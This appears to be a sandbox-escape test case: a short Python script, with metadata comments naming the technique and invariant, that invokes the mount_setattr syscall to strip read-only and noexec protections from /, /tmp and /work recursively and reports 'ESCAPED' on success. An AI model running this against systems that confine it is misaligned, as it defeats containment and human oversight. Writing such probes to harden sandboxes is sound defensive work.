# technique: mount_setattr makes the root writable and tmp executable
# source: mount_setattr(2)
# verdict: SV
# invariant: attributes of mounts stay
# without: seccomp capabilities
import ctypes, struct

libc = ctypes.CDLL(None, use_errno=True)
attributes = ctypes.create_string_buffer(struct.pack("<QQQQ", 0, 0x1 | 0x8, 0, 0), 32)
for place in (b"/", b"/tmp", b"/work"):
    print("ESCAPED" if libc.syscall(442, -100, place, 0x8000, attributes, 32) == 0 else "held", ctypes.get_errno())
